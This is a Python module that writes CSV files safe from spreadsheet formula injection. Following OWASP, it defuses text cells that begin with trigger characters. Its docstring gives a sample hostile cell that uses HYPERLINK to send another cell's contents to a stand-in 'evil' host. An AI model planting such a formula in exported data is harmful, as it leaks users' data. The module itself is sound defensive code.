"""CSV files that a spreadsheet opens as data, never as formulas (CSV/formula injection).

Prompts, groups, rater ids and config names are user-supplied text. A cell such as
`=HYPERLINK("http://evil/?"&A1)` or `-2+3` that reaches Excel or LibreOffice unquoted runs as a
formula. Following OWASP, a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return is written with a leading single quote `'` (spreadsheets show it as text); numeric columns,
and text cells that are plain numbers such as `-0.5`, are left as they are. A text cell that
already starts with `'` is quoted too, so `read_back` restores every value exactly.
Every CSV the package writes goes through `write_csv`.
"""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd

from analysis.store.atomic import atomic_write_bytes

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?")


def defuse(value: str) -> str:
    """One text cell made inert: `'` prefixed where a spreadsheet would see a formula."""
    if value.startswith("'") or (value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)):
        return "'" + value
    return value


def read_back(value: str) -> str:
    """The original text of a cell written by `defuse` (inverse on everything it writes)."""
    if value.startswith("'") and len(value) > 1 and value[1] in ("'", *TRIGGERS):
        return value[1:]
    return value


def defused(df: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells are defused; numeric and boolean columns are untouched."""
    out = df.copy()
    for col in out.columns:
        series = out[col]
        if pd.api.types.is_numeric_dtype(series) or pd.api.types.is_bool_dtype(series):
            continue
        out[col] = series.map(lambda v: defuse(v) if isinstance(v, str) else v).astype(
            series.dtype if pd.api.types.is_string_dtype(series) else object
        )
    return out


def csv_text(df: pd.DataFrame) -> str:
    """The CSV text `write_csv` writes (no index), e.g. to hash it first.

    Lines end in '\\n'; but Python's csv writer quotes only the line terminator's characters,
    so when a text cell holds a carriage return the file uses RFC 4180's '\\r\\n' instead, which
    makes the writer quote that cell (a bare '\\r' would otherwise split the row on reading).
    """
    safe = defused(df)
    texts = safe.select_dtypes(exclude=["number", "bool"])
    has_cr = any(isinstance(v, str) and "\r" in v for col in texts for v in texts[col])
    return safe.to_csv(index=False, lineterminator="\r\n" if has_cr else "\n")


def write_csv(df: pd.DataFrame, path: Path) -> None:
    """Write df as CSV atomically, text cells defused against formula injection."""
    atomic_write_bytes(Path(path), csv_text(df).encode("utf-8"))
